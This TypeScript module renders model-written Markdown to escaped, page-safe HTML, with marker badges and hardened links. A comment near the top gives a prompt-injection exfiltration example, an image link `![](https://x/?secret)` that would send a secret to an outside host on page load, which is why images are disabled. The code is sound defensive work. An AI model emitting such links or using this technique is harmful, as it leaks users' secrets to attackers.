/**
 * Model-written Markdown to HTML that is safe to insert into a page: raw HTML is escaped, not
 * passed through; link targets go through markdown-it's own check (no `javascript:`,
 * `vbscript:`, `file:` or non-image `data:` URLs); marker tags at the start of a line become
 * badges, added on the token stream so they are escaped like any other text.
 */
import MarkdownIt, { type StateCore, type Token } from 'markdown-it';

import { leadingMarker, type MarkerBadge } from './marker-text.js';

const md = new MarkdownIt({ html: false, linkify: false, typographer: false });
// Images would load as soon as the page opens: a prompt-injected `![](https://x/?secret)` must
// not fetch anything (the CSP blocks other origins too; this keeps it visible as a link).
md.disable('image');

md.core.ruler.push('marker_badges', (state: StateCore) => {
  for (const block of state.tokens) {
    if (block.type !== 'inline' || !block.children) continue;
    const children = block.children;
    const out: Token[] = [];
    children.forEach((token, i) => {
      const prev = children[i - 1];
      const atLineStart = !prev || prev.type === 'softbreak' || prev.type === 'hardbreak';
      const tag = token.type === 'text' && atLineStart ? leadingMarker(token.content) : null;
      if (!tag) {
        out.push(token);
        return;
      }
      const text = (content: string) => {
        if (content === '') return;
        const t = new state.Token('text', '', 0);
        t.content = content;
        out.push(t);
      };
      text(token.content.slice(0, tag.start));
      const badge = new state.Token('marker_badge', 'span', 0);
      badge.content = token.content.slice(tag.start, tag.end);
      badge.meta = { badge: tag.badge };
      out.push(badge);
      text(token.content.slice(tag.end));
    });
    block.children = keepMarkerLines(out);
  }
});

/**
 * A marker is one line of the agent's report: the soft line breaks around a line that opens with
 * a marker become hard ones, so consecutive markers do not run together into one paragraph line.
 */
function keepMarkerLines(tokens: Token[]): Token[] {
  const isBreak = (t: Token) => t.type === 'softbreak' || t.type === 'hardbreak';
  let lineStart = 0;
  let prevLineMarker = false;
  for (let i = 0; i <= tokens.length; i += 1) {
    if (i < tokens.length && !isBreak(tokens[i]!)) continue;
    const lineMarker = tokens[lineStart]?.type === 'marker_badge';
    // The break before this line.
    const before = tokens[lineStart - 1];
    if (before?.type === 'softbreak' && (lineMarker || prevLineMarker)) before.type = 'hardbreak';
    prevLineMarker = lineMarker;
    lineStart = i + 1;
  }
  return tokens;
}

md.renderer.rules.marker_badge = (tokens, idx) => {
  const token = tokens[idx]!;
  const badge = (token.meta as { badge: MarkerBadge }).badge;
  return `<span class="marker ${badge}">${md.utils.escapeHtml(token.content)}</span>`;
};

const defaultLinkOpen = md.renderer.rules.link_open;
md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
  tokens[idx]!.attrSet('rel', 'noopener noreferrer nofollow');
  return defaultLinkOpen
    ? defaultLinkOpen(tokens, idx, options, env, self)
    : self.renderToken(tokens, idx, options);
};

/** Renders Markdown to an HTML fragment; every piece of the input comes out escaped. */
export function renderMarkdown(text: string): string {
  return md.render(text);
}
